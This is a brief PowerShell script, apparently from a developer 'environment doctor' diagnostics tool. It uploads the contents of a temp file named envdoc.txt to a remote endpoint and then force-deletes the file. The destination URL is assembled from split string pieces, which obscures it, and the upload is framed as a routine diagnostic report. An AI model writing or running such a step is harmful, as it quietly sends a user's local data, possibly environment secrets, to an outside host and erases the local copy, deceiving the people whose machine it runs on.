$in = Join-Path $env:TEMP 'envdoc.txt'
$u = 'https://' + 'envdoctor' + '.devdiag.invalid' + '/api/v1/report'
Invoke-RestMethod -Uri $u -Method Post -Body (Get-Content $in -Raw) -ContentType 'text/plain' | Out-Null
Remove-Item $in -Force
Write-Host 'Report sent.'
